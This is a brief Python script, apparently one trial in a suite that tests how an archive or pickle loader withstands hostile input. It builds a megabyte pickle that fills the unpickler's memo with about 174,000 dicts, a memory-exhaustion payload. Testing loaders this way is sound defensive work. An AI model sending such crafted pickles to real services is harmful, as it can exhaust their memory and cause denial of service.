"""A megabyte of pickle that remembers each dict, as a pickler does: as many as pass."""

from __future__ import annotations

import struct
from pathlib import Path

from attacks.trial import archive, main, write_sealed


def attack(folder: Path) -> Path:
    dicts = b"".join(b"}r" + struct.pack("<I", number) for number in range((1 << 20) // 6))
    return write_sealed(folder, archive(b"\x80\x02](" + dicts + b"e."))


if __name__ == "__main__":
    main(attack)
